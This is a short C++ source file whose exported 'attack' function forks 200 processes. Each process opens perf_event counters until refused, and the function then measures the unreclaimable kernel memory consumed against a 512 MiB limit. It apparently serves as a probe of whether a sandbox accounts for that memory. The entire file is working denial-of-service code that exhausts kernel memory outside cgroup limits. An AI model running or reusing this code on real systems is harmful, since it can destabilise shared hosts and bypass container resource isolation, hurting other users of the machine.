#include <cstdio>
#include <linux/perf_event.h>
#include <sys/syscall.h>
#include <unistd.h>

// No control group accounts for the 1.5 KB of a counter: descriptors and processes bound them.
static const int PROCESSES = 200;
static const long LIMIT = 512;

static int open_counters() {
    struct perf_event_attr event = {};
    event.type = PERF_TYPE_SOFTWARE;
    event.size = sizeof event;
    event.config = PERF_COUNT_SW_PAGE_FAULTS;
    event.disabled = 1;
    int opened = 0;
    while (syscall(SYS_perf_event_open, &event, 0, -1, -1, 0) >= 0)
        opened++;
    return opened;
}

// The kernel's own memory, of the whole machine: proc(5), /proc/meminfo.
static long megabytes() {
    char line[256];
    long kibibytes = 0;
    FILE *file = fopen("/proc/meminfo", "r");
    while (file && fgets(line, sizeof line, file))
        sscanf(line, "SUnreclaim: %ld", &kibibytes);
    if (file)
        fclose(file);
    return kibibytes >> 10;
}

extern "C" long attack(long n) {
    int ready[2], opened;
    long before = megabytes(), all = 0;
    if (pipe(ready))
        return -1;
    for (int i = 0; i < PROCESSES; i++)
        if (fork() == 0) {
            opened = open_counters();
            if (write(ready[1], &opened, sizeof opened) != sizeof opened)
                _exit(2);
            for (;;)
                pause();
        }
    for (int i = 0; i < PROCESSES; i++) {
        if (read(ready[0], &opened, sizeof opened) != sizeof opened)
            return -2;
        all += opened;
    }
    long taken = megabytes() - before;
    printf("%ld counters, %ld MiB of the kernel's memory\n", all, taken);
    if (all == 0 || before == 0)
        return -3; // counters are what a sandbox is given: without any, nothing was tried
    return taken > LIMIT ? taken - LIMIT : 0;
}
